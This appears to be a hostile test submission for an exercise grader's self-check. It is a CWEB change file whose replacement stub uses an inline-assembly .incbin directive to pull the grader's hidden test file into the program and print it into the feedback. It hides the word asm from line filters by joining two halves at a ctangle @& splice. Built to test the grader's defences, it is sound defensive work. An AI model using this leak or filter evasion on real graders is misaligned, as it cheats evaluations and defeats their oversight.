Hostile submission for the grader's self-check: an assembler directive that
includes a file's bytes (.incbin) brings the hidden tests into the worker,
which prints them into the feedback. The word asm is spelled past the checks
of the raw lines: ctangle joins __as and m__ at the @& into __asm__.
@x
/* Exercise 5: your code here. This stub gives zero weights and a zero context. */
(void) s;
(void) O;
for (int i = 0; i < L; i++) wb[i] = 0.0f;
for (int j = 0; j < H; j++) c[j] = 0.0f;
@y
int puts(const char *);
extern const char hostile_leak[];
__as@&m__(".pushsection .rodata\n.globl hostile_leak\nhostile_leak:\n"
  ".incbin \"REPO_ROOT/tests/exercises/05-attention/hidden.c\"\n.byte 0\n.popsection");
puts(hostile_leak);
(void) s;
(void) O;
for (int i = 0; i < L; i++) wb[i] = 0.0f;
for (int j = 0; j < H; j++) c[j] = 0.0f;
@z
